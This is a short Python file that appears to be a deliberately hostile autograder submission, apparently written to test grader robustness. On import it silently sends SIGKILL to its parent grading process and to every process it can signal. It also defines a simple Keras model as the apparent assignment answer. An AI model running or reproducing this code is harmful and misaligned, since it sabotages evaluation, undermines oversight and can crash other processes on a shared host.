"""Tries to kill the process that grades it, and every process it can signal."""

import contextlib
import os
import signal

import keras

for target in (os.getppid(), -1):
    with contextlib.suppress(OSError):
        os.kill(target, signal.SIGKILL)


def part3():
    return keras.Sequential([keras.Input((784,)), keras.layers.Dense(10, activation="softmax")])
